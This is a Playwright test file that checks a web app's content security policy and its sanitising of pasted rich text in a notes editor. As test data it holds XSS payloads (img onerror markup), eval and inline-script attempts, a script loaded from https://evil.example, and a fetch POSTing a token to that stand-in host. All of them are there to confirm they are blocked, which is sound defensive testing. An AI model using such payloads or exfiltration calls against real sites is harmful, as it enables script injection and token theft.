import { expect, test } from '../journey.ts'
import { signIn } from '../people.ts'
import { watchPolicy } from '../policy.ts'

test.use({ serviceWorkers: 'allow' })

test('the policy of the pages lets everything of ours through, rich text that is pasted too, and nothing that somebody slips in', async ({
  page,
}) => {
  const refused = await watchPolicy(page)
  await test.step('signing in, a list, a record, the editor of its notes', async () => {
    await signIn(page, 'adviser')
    await page.getByRole('link', { name: 'Whitlock Pastoral Co' }).click()
    await page.getByRole('link', { name: 'Notes' }).click()
    await page.getByRole('link', { name: 'Add note' }).click()
    const editor = page.locator('[contenteditable=true]')
    await editor.click()
    await editor.evaluate((element) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', '<p>Fence at <strong>Duffy’s</strong><img src="x" onerror="document.title=\'run\'"></p>')
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    })
    await expect(editor.locator('strong')).toHaveText('Duffy’s')
    await expect(editor.locator('img[onerror]')).toHaveCount(0)
  })
  await test.step('the pages of a stakeholder, answering and its worker, the page of the API, which lists the calls', async () => {
    await page.evaluate(() => localStorage.clear())
    await signIn(page, 'primary', '/questions')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
    await page.goto('/api/docs')
    await expect(page.getByRole('heading', { name: /Paddock/ })).toBeVisible()
    await page.getByRole('link', { name: 'Everyone signed in' }).click()
    await expect(page.getByText('The signed-in person', { exact: true })).toBeVisible()
  })
  expect(refused).toEqual([])

  await test.step('what somebody slips in is refused', async () => {
    await page.goto('/home')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const slipped = await page.evaluate(async () => {
      const tried: string[] = []
      const attempt = (what: string, work: () => void) => {
        try {
          work()
          tried.push(what)
        } catch {
          // Refused, as it should be.
        }
      }
      attempt('markup', () => (document.createElement('div').innerHTML = '<img src=x onerror="globalThis.ran = true">'))
      // What the test itself runs may make code; a timer of the page may not.
      await new Promise<void>((done) => {
        setTimeout(() => {
          // oxlint-disable-next-line typescript/no-implied-eval -- to see it refused
          attempt('code', () => new Function('globalThis.ran = true')())
          done()
        })
      })
      attempt('an address of a script', () => (document.createElement('script').src = 'https://evil.example/x.js'))
      attempt('a script in the page', () => {
        const inline = document.createElement('script')
        inline.append('globalThis.ran = true')
        document.body.append(inline)
        if (!('ran' in globalThis)) throw new Error('not run')
      })
      await fetch('https://evil.example/', { method: 'POST', body: 'token', mode: 'no-cors' }).then(
        () => tried.push('a message to somebody else'),
        () => undefined,
      )
      return tried
    })
    expect(slipped).toEqual([])
    await expect.poll(() => refused.length).toBeGreaterThan(2)
  })
})
